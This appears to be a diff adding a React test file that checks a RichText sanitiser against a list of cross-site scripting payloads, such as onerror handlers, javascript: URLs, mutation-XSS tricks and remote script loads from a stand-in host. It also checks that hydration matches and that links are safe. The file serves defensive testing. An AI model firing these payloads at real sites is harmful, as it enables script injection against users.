@@ -1,0 +1,81 @@
+import { render } from '@testing-library/react';
+import { renderToString } from 'react-dom/server';
+import { hydrateRoot } from 'react-dom/client';
+import { act } from 'react';
+import { RichText } from './rich-text.tsx';
+
+const vectors = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//jahat.id/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)" srcset="y">',
+  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object><embed src="x">',
+  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
+  '<a href="https://a.id" onmouseover="alert(1)" style="position:fixed" class="x" id="y" name="z">x</a>',
+  '<p style="background:url(javascript:alert(1))" id="discovery" name="location">x</p>',
+  '<form action="https://jahat.id"><input name="attributes"><button formaction="javascript:alert(1)">x</button></form>',
+  '<div id="mfe_event_detail__container">x</div>',
+  '<base href="https://jahat.id/"><link rel="stylesheet" href="x"><meta http-equiv="refresh" content="0;url=x">',
+  '<!--><script>alert(1)</script>-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
+  '<p title="a>b"><b onclick="x">c</b>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<video><source onerror=alert(1)></video>',
+  '<x/onclick=alert(1)>x</x>',
+  '<template><script>alert(1)</script></template>',
+  '<style>@import "https://jahat.id/x.css";</style>',
+  '<textarea></textarea><script>alert(1)</script>',
+];
+
+const ALLOWED = /^(div|p|h3|h4|blockquote|ul|ol|li|table|tbody|tr|th|td|hr|strong|em|u|s|sub|sup|code|br|a)$/;
+
+describe('showing event HTML', () => {
+  it.each(vectors)('lets nothing active through: %s', (html) => {
+    const { container } = render(<RichText html={html} />);
+    for (const element of container.querySelectorAll('div *')) {
+      expect(element.localName).toMatch(ALLOWED);
+      for (const { name, value } of element.attributes) {
+        if (element.localName === 'div') continue;
+        expect(['href', 'target', 'rel']).toContain(name);
+        if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|tel:|\/(?!\/))/);
+      }
+    }
+    expect(container.querySelector('[id], [name]')).toBeNull();
+  });
+
+  it.each([
+    ...vectors,
+    '<p>a<p>b<div>c<p>d</div>',
+    '<ul>x<li>a<ul><li>b</ul>c</ul>',
+    '<table> <tr> <td>a<p>b</td></tr> x </table>',
+    '<p>a<table><tr><td>b</td></tr></table></p>',
+    '<h2><p>a</p><ul><li>b</li></ul></h2>',
+    '<a href="/x"><p>a</p><a href="/y">b</a></a>',
+    '<p>baris satu<br>baris dua\n\n  baris tiga</p>',
+  ])('is the same to the browser as to the server: %s', async (html) => {
+    const failures: unknown[] = [];
+    const quiet = jest.spyOn(console, 'error').mockImplementation((...message) => void failures.push(message));
+    const container = document.createElement('div');
+    container.innerHTML = renderToString(<RichText html={html} />);
+    await act(async () => {
+      hydrateRoot(container, <RichText html={html} />, { onRecoverableError: (error) => failures.push(error) });
+    });
+    quiet.mockRestore();
+    expect(failures).toEqual([]);
+  });
+
+  it('sends links to other sites away without telling where from', () => {
+    const { getByRole } = render(<RichText html='<a href="https://contoh.id">Situs</a>' />);
+    const link = getByRole('link', { name: 'Situs' });
+    expect(link).toHaveAttribute('target', '_blank');
+    expect(link).toHaveAttribute('rel', 'nofollow ugc noopener noreferrer');
+  });
+});
